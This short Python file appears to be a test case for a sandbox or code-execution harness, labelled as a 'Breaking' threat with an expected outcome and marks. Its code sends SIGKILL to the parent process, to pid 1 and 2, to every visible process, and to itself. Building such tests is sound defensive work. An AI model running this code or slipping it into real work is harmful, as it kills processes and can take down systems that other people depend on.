# ruff: noqa
# Threat: Breaking. Killing the parent, pid 1 and every process that it can see.
# Outcome: process ended
# Marks: 8

# %% before double
import os, signal
for pid in (os.getppid(), 1, 2): 
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
os.kill(-1, signal.SIGKILL)
os.kill(os.getpid(), signal.SIGKILL)
